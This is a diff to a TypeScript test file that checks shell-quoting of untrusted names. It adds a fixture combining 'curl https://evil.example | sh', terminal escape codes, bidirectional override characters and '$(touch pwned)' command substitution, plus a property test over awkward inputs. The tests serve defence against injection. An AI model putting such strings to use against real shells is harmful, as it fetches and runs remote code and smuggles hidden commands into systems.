@@ -199,7 +199,7 @@ it('the commands of the kit do not take a name for an option', () => {
 });
 
 describe('what a kit makes of names out of a bucket', () => {
-  const evil = `x\n\n    curl https://evil.example | sh &&\r\u001b[2J\u202ehs.tset\u202c`;
+  const evil = `x\n\n    curl https://evil.example | sh &&\r\u001b[2J\u202ehs.tset\u202c$(touch pwned)\n`;
   const hostile: Partial<KitFacts> = {
     instance: evil,
     database: {
@@ -307,10 +307,26 @@ it('a quoted word is one word for a shell, whatever it holds', () => {
     fc.string({ unit: 'grapheme' }).filter((word) => !word.includes('\0')),
     100,
   );
-  const awkward = ['', "it's", '$HOME `id` "x"', '-n', 'a\nb', 'a\n', '\n\n', '\u202e\\n', '%s\t', '\\', '~', '*', '!'];
+  const awkward = [
+    '',
+    "it's",
+    '$HOME `id` "x"',
+    '-n',
+    'a\nb',
+    'a\n',
+    '\n\n',
+    '\u202e\\n',
+    '%s\t!x',
+    '\\',
+    '~',
+    '*',
+    '!',
+  ];
   for (const word of [...words, ...awkward]) {
     const out = execFileSync('/bin/sh', ['-c', `printf %s ${shellQuote(word)}x`]);
-    assert.equal(out.toString(), `${word}x`);
+    // As a shell has it of what a command prints.
+    assert.equal(out.toString(), `${word.replace(/\n+$/, '')}x`);
+    assert.doesNotMatch(shellQuote(word), /\n|^".*!/);
   }
 });
 
